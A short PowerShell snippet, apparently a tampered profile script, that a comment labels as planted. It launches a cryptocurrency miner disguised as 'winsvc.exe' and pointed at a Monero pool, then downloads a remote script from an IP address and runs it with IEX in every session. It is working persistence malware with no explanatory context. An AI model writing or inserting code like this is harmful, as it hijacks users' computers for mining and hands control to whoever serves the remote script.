# planted: every PowerShell session starts the miner and fetches more code
& 'C:\ProgramData\WinSvcData\winsvc.exe' -o pool.supportxmr.com:443 --donate-level 1
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')
